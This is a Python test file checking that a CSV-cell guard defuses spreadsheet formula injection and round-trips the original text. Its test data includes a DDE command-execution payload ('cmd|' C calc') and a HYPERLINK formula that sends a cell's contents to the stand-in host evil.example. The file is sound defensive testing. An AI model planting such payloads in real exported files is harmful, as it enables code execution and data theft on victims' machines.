import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecan_core.data.cells import guarded, unguarded
from ecan_core.data.tables import read_table

FORMULAS = ("=1+1", "+cmd|' C calc'!A0", "-2+3", "@SUM(A1)", " =1", "\uff1d1", "call;=1+1", "a\t@b", "a\n=b", "'=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_part_that_a_spreadsheet_makes_a_cell_of_begins_like_a_formula(text):
    for part in guarded(text).replace("\t", ";").replace("\n", ";").split(";"):
        assert part.strip()[0] not in "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize("text", ["anger", "P07", "calls/a-1+2.wav", "'quoted'", "o'neill", "", "a;b", "3"])
def test_what_is_no_formula_stays_as_it_is(text):
    assert guarded(text) == unguarded(text) == text


@given(st.text(alphabet="=+-@';\t\n a\uff1d\u00a0b"))
def test_what_was_guarded_is_read_as_it_was(text):
    assert unguarded(guarded(text)) == text


def test_a_list_gives_back_the_names_that_were_guarded(tmp_path):
    name, speaker = "=cmd|' C calc'!A0.wav", '=HYPERLINK("http://evil.example/?x="&B1,"open")'
    with (tmp_path / "list.csv").open("w") as file:
        csv.writer(file).writerows([("file", "speaker"), (guarded(name), guarded(speaker))])
    (row,) = read_table(tmp_path / "list.csv").rows
    assert (row.utterance.path.name, row.utterance.speaker) == (name, speaker)
